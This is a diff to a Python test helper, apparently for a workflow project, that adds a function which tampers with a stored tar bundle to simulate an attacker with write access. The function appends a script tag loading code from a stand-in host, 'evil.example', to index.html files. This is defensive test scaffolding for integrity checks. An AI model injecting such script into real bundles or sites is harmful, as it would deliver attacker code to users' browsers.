@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import importlib.util
+import io
 import json
+import tarfile
 import threading
 from contextlib import contextmanager
+from pathlib import Path
 from typing import Any
 
 from tests.conftest import PROJECT_ROOT
@@ -63,3 +66,15 @@ class FakeDagRun:
 
 def context(ti: FakeTI, *, params: dict | None = None, triggered_by: str | None = "author") -> dict[str, Any]:
     return {"ti": ti, "params": params or {}, "dag_run": FakeDagRun(triggered_by), "run_id": "manual__test"}
+
+
+def tamper_bundle(bundle: Path, member_suffix: str = "index.html") -> None:
+    """Alter one file inside a stored bundle, as an attacker with write access would."""
+    with tarfile.open(bundle, "r:gz") as tar:
+        members = [(m, tar.extractfile(m).read()) for m in tar]
+    with tarfile.open(bundle, "w:gz") as tar:
+        for member, data in members:
+            if member.name.endswith(member_suffix):
+                data += b"<script src='https://evil.example/x.js'></script>"
+                member.size = len(data)
+            tar.addfile(member, io.BytesIO(data))
